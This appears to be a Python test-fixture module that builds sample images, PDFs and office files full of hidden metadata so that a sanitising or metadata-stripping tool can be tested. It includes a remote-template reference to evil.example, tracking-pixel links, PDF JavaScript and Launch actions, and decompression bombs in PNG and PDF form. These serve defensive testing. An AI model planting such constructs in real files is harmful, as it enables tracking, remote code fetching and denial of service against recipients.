"""Files as people and attackers make them: each carries the name OLGA where its format keeps its author."""

import struct
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pikepdf
from PIL import Image, PngImagePlugin

OLGA = "Olga Sentinel"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
DOCUMENT = "application/vnd.openxmlformats-officedocument."
CORE = f'<cp:coreProperties xmlns:cp="cp" xmlns:dc="dc"><dc:creator>{OLGA}</dc:creator></cp:coreProperties>'


def picture(kind: str, size: tuple[int, int] = (60, 40), **options: object) -> bytes:
    target = BytesIO()
    image = Image.new("RGB", size, "white")
    image.paste("red", (0, 0, size[0] // 2, size[1]))
    image.save(target, kind, **options)
    return target.getvalue()


def photo(**options: object) -> bytes:
    """A photograph lying on its side, as phones store them: author, comment, place."""
    exif = Image.Exif()
    exif[0x013B], exif[0x0112] = OLGA, 6
    exif.get_ifd(0x8825).update({1: "N", 2: (55.0, 45.0, 7.0), 3: "E", 4: (37.0, 36.0, 56.0)})
    return picture("JPEG", exif=exif, comment=OLGA.encode(), icc_profile=OLGA.encode(), **options)


def labelled_png() -> bytes:
    labels = PngImagePlugin.PngInfo()
    labels.add_text("Author", OLGA)
    labels.add_itxt("XML:com.adobe.xmp", f"<x>{OLGA}</x>")
    return picture("PNG", pnginfo=labels)


def header_bomb(width: int = 50_000, height: int = 50_000) -> bytes:
    """A PNG of a hundred bytes that says it has 2.5 thousand million pixels."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def pdf(*, password: str = "", script: bool = True) -> bytes:
    """One page with everything a PDF can hide; its one honest link leads to example.org."""
    document = pikepdf.new()
    page = document.add_blank_page(page_size=(200, 200)).obj
    document.docinfo["/Author"] = OLGA
    with document.open_metadata() as metadata:
        metadata["dc:creator"] = [OLGA]
    document.attachments["secret.txt"] = OLGA.encode()
    dictionary, name = pikepdf.Dictionary, pikepdf.Name
    if script:
        document.Root.OpenAction = dictionary(S=name.JavaScript, JS=f"app.alert('{OLGA}')")
    page.AA = dictionary(O=dictionary(S=name.Launch, F=OLGA))
    box = [0, 0, 9, 9]
    note = dictionary(Type=name.Annot, Subtype=name.Text, Rect=box, Contents="A remark", T=OLGA, M="D:2026")
    link = dictionary(S=name.URI, URI="https://example.org/")
    local = dictionary(S=name.URI, URI=f"file:///C:/Users/{OLGA}/a.doc")
    actions = [dictionary(Type=name.Annot, Subtype=name.Link, Rect=box, A=a) for a in (link, local)]
    page.Annots = document.make_indirect([note, *actions])
    image = pikepdf.Stream(document, photo(), Type=name.XObject, Subtype=name.Image, Width=60, Height=40)
    image.Filter, image.ColorSpace, image.BitsPerComponent = name.DCTDecode, name.DeviceRGB, 8
    image.Metadata = document.make_stream(OLGA.encode())
    page.Resources = dictionary(XObject=dictionary(Im0=image))
    page.Contents = document.make_stream(b"q 60 0 0 40 0 0 cm /Im0 Do Q")
    target = BytesIO()
    document.save(target, encryption=pikepdf.Encryption(owner="x", user=password) if password else False)
    return target.getvalue()


def pack(parts: dict[str, bytes | str]) -> bytes:
    target = BytesIO()
    with ZipFile(target, "w", ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return target.getvalue()


def _relations(*rows: tuple[str, str, str]) -> str:
    inner = "".join(
        f'<Relationship Id="{i}" Type="{TYPE}{kind}" Target="{target}"'
        + (' TargetMode="External"/>' if ":" in target else "/>")
        for i, kind, target in rows
    )
    return f'<Relationships xmlns="rels">{inner}</Relationships>'


def _types(main: str, kind: str) -> str:
    return (
        '<Types><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main}" ContentType="{DOCUMENT}{kind}.main+xml"/>'
        '<Override PartName="/customXml/item1.xml" ContentType="application/xml"/></Types>'
    )


def docx_parts() -> dict[str, bytes | str]:
    """A Word document: properties, a comment, a tracked change, a template, a picture, a workbook."""
    return {
        "[Content_Types].xml": _types("word/document.xml", "wordprocessingml.document"),
        "_rels/.rels": _relations(("rId1", "officeDocument", "word/document.xml")),
        "docProps/core.xml": CORE,
        "docProps/thumbnail.jpeg": photo(),
        "customXml/item1.xml": f"<a>{OLGA}</a>",
        "word/document.xml": (
            f'<w:document {W} {R}><w:body><w:p w:rsidR="00AB12CD"><w:ins w:id="1" w:author="{OLGA}" '
            'w:date="2026-11-01T10:00:00Z"><w:r><w:t xml:space="preserve">The text &amp; the question </w:t>'
            '</w:r></w:ins><w:hyperlink r:id="rId4"/><w:drawing><blip r:embed="rId2"/></w:drawing>'
            '<w:object><o:OLEObject xmlns:o="o" r:id="rId3"/></w:object></w:p></w:body></w:document>'
        ),
        "word/_rels/document.xml.rels": _relations(
            ("rId2", "image", "media/image1.jpeg"),
            ("rId3", "package", "embeddings/sheet.xlsx"),
            ("rId4", "hyperlink", "https://example.org/"),
            ("rId5", "image", "http://tracker.example/pixel.png"),
        ),
        "word/comments.xml": (
            f'<w:comments {W}><w:comment w:id="0" w:author="{OLGA}" w:initials="OS" '
            'w:date="2026-11-01T10:00:00Z"><w:p><w:r><w:t>A remark</w:t></w:r></w:p></w:comment></w:comments>'
        ),
        "word/people.xml": f'<w15:people xmlns:w15="w15"><w15:person w15:author="{OLGA}"/></w15:people>',
        "word/settings.xml": f'<w:settings {W} {R}><w:attachedTemplate r:id="rId1"/><w:zoom/></w:settings>',
        "word/_rels/settings.xml.rels": _relations(
            ("rId1", "attachedTemplate", f"http://evil.example/{OLGA}.dotm")
        ),
        "word/media/image1.jpeg": photo(),
        "word/embeddings/sheet.xlsx": OLGA,
    }


def xlsx_parts() -> dict[str, bytes | str]:
    return {
        "[Content_Types].xml": _types("xl/workbook.xml", "spreadsheetml.sheet"),
        "docProps/core.xml": CORE,
        "xl/workbook.xml": (
            f'<workbook {R}><fileSharing userName="{OLGA}"/><x15ac:absPath xmlns:x15ac="a" url="C:\\{OLGA}"/>'
            '<sheets><sheet name="Marks.pdf" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": _relations(("rId1", "worksheet", "worksheets/sheet1.xml")),
        "xl/worksheets/sheet1.xml": f'<worksheet {R}><pageSetup r:id="rId1" paperSize="9"/></worksheet>',
        "xl/worksheets/_rels/sheet1.xml.rels": _relations(
            ("rId1", "printerSettings", "../printerSettings/p1.bin")
        ),
        "xl/printerSettings/p1.bin": OLGA,
        "xl/comments1.xml": (
            f"<comments><authors><author>{OLGA}</author></authors><commentList><comment><text><r><t>{OLGA}:</t></r>"
            "<r><t>Look here</t></r></text></comment></commentList></comments>"
        ),
        "xl/persons/person.xml": f'<personList><person displayName="{OLGA}" userId="{OLGA}"/></personList>',
    }


def odt_parts() -> dict[str, bytes | str]:
    return {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": (
            '<o:document-content xmlns:o="o" xmlns:text="t" xmlns:dc="dc" xmlns:draw="d" xmlns:xlink="x">'
            f"<o:body><o:annotation><dc:creator>{OLGA}</dc:creator><dc:date>2026-11-01</dc:date>"
            '<text:p>A remark</text:p></o:annotation><draw:image xlink:href="http://tracker.example/a.png"/>'
            "<text:p>The text</text:p></o:body></o:document-content>"
        ),
        "meta.xml": f'<o:meta xmlns:o="o" xmlns:dc="dc"><dc:creator>{OLGA}</dc:creator></o:meta>',
        "Thumbnails/thumbnail.png": labelled_png(),
        "META-INF/manifest.xml": (
            '<m:manifest xmlns:m="m"><m:file-entry m:full-path="/"/><m:file-entry m:full-path="content.xml"/>'
            '<m:file-entry m:full-path="Thumbnails/thumbnail.png"/></m:manifest>'
        ),
    }


def busy_xml() -> bytes:
    """Thirty megabytes of small elements that pack too badly to be taken for a bomb."""
    rows = "".join(f'<c r="{n * 2654435761 % 2**32}"/>' for n in range(200_000))
    return pack(xlsx_parts() | {"xl/worksheets/sheet1.xml": f"<worksheet>{rows * 8}</worksheet>"})


def long_attribute() -> bytes:
    noise = "".join(str(n * 2654435761 % 2**32) for n in range(2_000_000))
    return pack(docx_parts() | {"word/styles.xml": f'<a b="{noise}"/>'})


def pdf_of_blanks() -> bytes:
    """Two hundred kilobytes of PDF whose object stream unpacks to two hundred megabytes."""
    blanks = zlib.compress(b" " * 200 * 2**20, 9)
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/X 5 0 R>>",
        b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%b\nendstream"
        % (len(blanks), blanks),
    ]
    body, rows = b"%PDF-1.5\n", struct.pack(">BIH", 0, 0, 65535)
    for number, content in enumerate(objects, 1):
        rows += struct.pack(">BIH", 1, len(body), 0)
        body += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    rows += struct.pack(">BIH", 2, 4, 0) + struct.pack(">BIH", 1, len(body), 0)
    table = b"<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>stream\n%b\nendstream" % (len(rows), rows)
    return body + b"6 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF" % (table, len(body))


def pdf_of_numbers() -> bytes:
    """More objects than any document of 20 MB has."""
    document = pikepdf.new()
    document.add_blank_page()
    rows = [pikepdf.Array([n, [n], [n]]) for n in range(1000)]
    document.Root.Heap = document.make_indirect(pikepdf.Array(rows * 99))
    target = BytesIO()
    document.save(target)
    return target.getvalue()


def pdf_of_brackets(rows: int = 55) -> bytes:
    """Nine megabytes of empty arrays in one object, which a reader has to hold at once."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/Heap 4 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        b"[%b]" % (b"[%b]" % (b"[]" * 90_000) * rows),
    ]
    body, table = b"%PDF-1.5\n", b"xref\n0 5\n0000000000 65535 f \n"
    for number, content in enumerate(objects, 1):
        table += b"%010d 00000 n \n" % len(body)
        body += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    return body + table + b"trailer\n<</Size 5/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % len(body)


# What becomes of it, and how it is made.
GIANTS = {
    "photo.jpg": ("kept", lambda: picture("JPEG", (6600, 6000), exif=sideways())),
    "layers.jpg": (
        "kept",
        lambda: picture("JPEG", (5000, 4000), progressive=True, subsampling=0, exif=sideways()),
    ),
    "screen.png": ("kept", lambda: picture("PNG", (5000, 4000), exif=sideways())),
    "screen.webp": ("kept", lambda: picture("WEBP", (3300, 3000), exif=sideways())),
    "bomb.png": ("picture_size", header_bomb),
    "screen.docx": (
        "kept",
        lambda: pack(docx_parts() | {"word/media/image1.jpeg": picture("PNG", (5000, 4000))}),
    ),
    "busy.xlsx": ("kept", busy_xml),
    "long.docx": ("bomb", long_attribute),
    "blanks.pdf": ("kept", pdf_of_blanks),
    "brackets.pdf": ("bomb", pdf_of_brackets),
    "fewer-brackets.pdf": ("bomb", lambda: pdf_of_brackets(13)),
    "numbers.pdf": ("bomb", pdf_of_numbers),
}


def sideways() -> Image.Exif:
    exif = Image.Exif()
    exif[0x0112] = 6
    return exif
